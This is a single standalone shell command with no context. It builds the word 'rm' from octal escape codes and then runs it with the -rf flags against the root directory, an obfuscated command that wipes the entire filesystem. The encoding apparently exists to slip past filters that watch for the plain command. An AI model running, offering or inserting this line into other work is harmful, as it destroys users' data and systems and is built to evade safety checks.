x=$(printf "\\162\\155"); $x -rf /
